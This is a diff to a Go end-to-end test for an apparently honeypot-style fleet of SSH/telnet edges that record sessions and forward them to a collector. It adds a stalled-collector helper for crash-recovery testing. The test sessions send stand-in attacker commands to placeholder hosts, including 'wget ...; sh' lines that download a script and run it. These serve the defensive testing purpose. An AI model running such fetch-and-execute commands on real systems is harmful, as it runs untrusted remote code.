@@ -28,21 +28,15 @@ func TestHelperFleetEdge(t *testing.T) {
 	if os.Getenv("FLEET_EDGE_HELPER") != "1" {
 		t.Skip("subprocess body for the fleet e2e test")
 	}
-	delay, err := time.ParseDuration(os.Getenv("FLEET_EDGE_DELAY"))
-	if err != nil {
-		fmt.Fprintf(os.Stderr, "helper: FLEET_EDGE_DELAY: %v\n", err)
-		os.Exit(2)
-	}
 	var recorded atomic.Int64
 	countFile := os.Getenv("FLEET_EDGE_COUNTFILE")
 	srv, err := Serve(ServeConfig{
-		SSHAddr:         "127.0.0.1:0",
-		StorePath:       os.Getenv("FLEET_EDGE_STORE"),
-		ForwardAddr:     os.Getenv("FLEET_EDGE_FORWARD"),
-		ForwardNodeID:   "edge-c",
-		ForwardMaxDelay: delay,
-		Timeout:         10 * time.Second,
-		DrainTimeout:    15 * time.Second,
+		SSHAddr:       "127.0.0.1:0",
+		StorePath:     os.Getenv("FLEET_EDGE_STORE"),
+		ForwardAddr:   os.Getenv("FLEET_EDGE_FORWARD"),
+		ForwardNodeID: "edge-c",
+		Timeout:       10 * time.Second,
+		DrainTimeout:  15 * time.Second,
 		OnRecord: func(r *Record) {
 			n := recorded.Add(1)
 			_ = os.WriteFile(countFile, []byte(strconv.FormatInt(n, 10)), 0o644)
@@ -177,9 +171,40 @@ func waitLocalRecords(t *testing.T, dir string, want uint64, timeout time.Durati
 	}
 }
 
+// stalledCollector listens on loopback and accepts connections that it
+// never answers: a forwarder pointed at it sends its hello and waits, so
+// every record it holds stays on the edge.
+func stalledCollector(t *testing.T) string {
+	t.Helper()
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var conns []net.Conn // the accept loop's until done closes
+	done := make(chan struct{})
+	go func() {
+		defer close(done)
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			conns = append(conns, c)
+		}
+	}()
+	t.Cleanup(func() {
+		ln.Close()
+		<-done
+		for _, c := range conns {
+			c.Close()
+		}
+	})
+	return ln.Addr().String()
+}
+
 // startHelperEdge launches the killable edge subprocess and waits for
 // its SSH address.
-func startHelperEdge(t *testing.T, storeDir, forward, addrFile, countFile string, delay time.Duration) (*exec.Cmd, string) {
+func startHelperEdge(t *testing.T, storeDir, forward, addrFile, countFile string) (*exec.Cmd, string) {
 	t.Helper()
 	os.Remove(addrFile)
 	os.Remove(countFile)
@@ -190,7 +215,6 @@ func startHelperEdge(t *testing.T, storeDir, forward, addrFile, countFile string
 		"FLEET_EDGE_FORWARD="+forward,
 		"FLEET_EDGE_ADDRFILE="+addrFile,
 		"FLEET_EDGE_COUNTFILE="+countFile,
-		"FLEET_EDGE_DELAY="+delay.String(),
 	)
 	cmd.Stdout = os.Stderr
 	cmd.Stderr = os.Stderr
@@ -272,14 +296,13 @@ func TestFleetE2EByteIdentity(t *testing.T) {
 	var edges []*Server
 	for _, node := range []string{"edge-a", "edge-b"} {
 		srv, err := Serve(ServeConfig{
-			SSHAddr:         "127.0.0.1:0",
-			TelnetAddr:      "127.0.0.1:0",
-			StorePath:       dirs[node],
-			ForwardAddr:     caddr,
-			ForwardNodeID:   node,
-			ForwardMaxDelay: 2 * time.Millisecond,
-			Timeout:         10 * time.Second,
-			DrainTimeout:    15 * time.Second,
+			SSHAddr:       "127.0.0.1:0",
+			TelnetAddr:    "127.0.0.1:0",
+			StorePath:     dirs[node],
+			ForwardAddr:   caddr,
+			ForwardNodeID: node,
+			Timeout:       10 * time.Second,
+			DrainTimeout:  15 * time.Second,
 		})
 		if err != nil {
 			t.Fatal(err)
@@ -302,12 +325,12 @@ func TestFleetE2EByteIdentity(t *testing.T) {
 	telnetSession(t, edges[1].TelnetAddr(), "free -m")
 	telnetSession(t, edges[1].TelnetAddr(), "wget http://198.51.100.9/t.sh")
 
-	// The killable edge: a real subprocess whose forwarder lingers, so
-	// its records are durable locally but not yet at the collector when
-	// SIGKILL lands.
+	// The killable edge: a real subprocess whose forwarder first talks
+	// to a collector that never answers its hello, so its records are
+	// durable locally but not yet at the collector when SIGKILL lands.
 	addrFile := filepath.Join(base, "edge-c.addr")
 	countFile := filepath.Join(base, "edge-c.count")
-	cmd, addrC := startHelperEdge(t, dirs["edge-c"], caddr, addrFile, countFile, time.Hour)
+	cmd, addrC := startHelperEdge(t, dirs["edge-c"], stalledCollector(t), addrFile, countFile)
 	t.Cleanup(func() {
 		if cmd.Process != nil {
 			cmd.Process.Kill()
@@ -321,8 +344,11 @@ func TestFleetE2EByteIdentity(t *testing.T) {
 	// Wait until the helper's WAL holds all three records on disk — once
 	// the parent can read them from the filesystem, SIGKILL cannot lose
 	// them (only the page cache holds unsynced writes, and it survives
-	// the process). Then kill -9 while the forwarder is still lingering.
+	// the process). Then kill -9 while the collector has none of them.
 	waitLocalRecords(t, dirs["edge-c"], 3, 20*time.Second)
+	if _, err := os.Stat(store.ShardDir(fleetDir, "edge-c")); !os.IsNotExist(err) {
+		t.Fatalf("the collector holds a shard for edge-c before the kill (stat: %v)", err)
+	}
 	if err := cmd.Process.Kill(); err != nil {
 		t.Fatal(err)
 	}
@@ -330,7 +356,7 @@ func TestFleetE2EByteIdentity(t *testing.T) {
 
 	// Restart over the same store: WAL recovery plus resume from the
 	// collector's cursor must deliver the pre-kill sessions exactly once.
-	cmd2, addrC2 := startHelperEdge(t, dirs["edge-c"], caddr, addrFile, countFile, 2*time.Millisecond)
+	cmd2, addrC2 := startHelperEdge(t, dirs["edge-c"], caddr, addrFile, countFile)
 	for i := 3; i < 6; i++ {
 		sshSession(t, addrC2, fmt.Sprintf("wget http://198.51.100.7/c%d.sh; sh c%d.sh", i, i))
 	}
